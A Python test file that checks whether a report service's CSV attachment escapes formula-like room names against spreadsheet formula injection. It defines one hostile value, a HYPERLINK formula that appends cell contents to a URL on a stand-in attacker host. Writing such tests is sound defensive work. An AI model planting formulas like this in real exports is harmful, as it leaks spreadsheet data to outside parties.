"""The reports' CSV artefact is formula-safe (issue 11, problem 7)."""

from __future__ import annotations

import csv
import io

from opsadmin.reports import service
from opsadmin.reports.weeks import week_of
from tests.factories import TODAY, LocationFactory, RegionFactory, RoomFactory

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B2,"open")'


def test_utilisation_csv_attachment_neutralises_a_formula_room_name(session):
    site = LocationFactory(code="GRN", region=RegionFactory(code="IN"))
    RoomFactory(location=site, name=HOSTILE_NAME)
    session.commit()
    _, artefacts = service.build_artefacts(session, "utilisation", "IN", week_of(TODAY))
    cells = [cell for row in csv.reader(io.StringIO(artefacts.csv)) for cell in row]
    assert "'" + HOSTILE_NAME in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
